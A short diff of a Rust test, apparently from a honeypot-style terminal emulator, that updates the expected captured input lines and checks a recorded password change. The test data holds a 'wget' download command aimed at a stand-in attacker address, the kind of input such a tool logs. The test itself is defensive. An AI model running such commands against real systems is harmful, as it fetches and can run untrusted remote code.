@@ -294,7 +294,7 @@ fn what_reads_from_a_terminal_reads_until_its_end() {
     );
     let told =
         |name: &str| client.heard.reports.iter().filter_map(|(found, _)| found.fields.get(name).cloned()).collect::<Vec<_>>();
-    assert_eq!(told("input"), ["wget http://198.51.100.9/y\\u{a}; \\u{a}"]);
+    assert_eq!(told("input"), ["wget http://198.51.100.9/y\\u{a}; \\u{a}", "a\\u{a}"]);
     assert_eq!((told("command").len(), told("new_password")), (4, vec!["s3cret".to_string()]));
     let (mut other, prompt) = terminal("admin");
     let asked = printed(&other.ask(&data(b"passwd\rold\ra\rb\r"))).0;
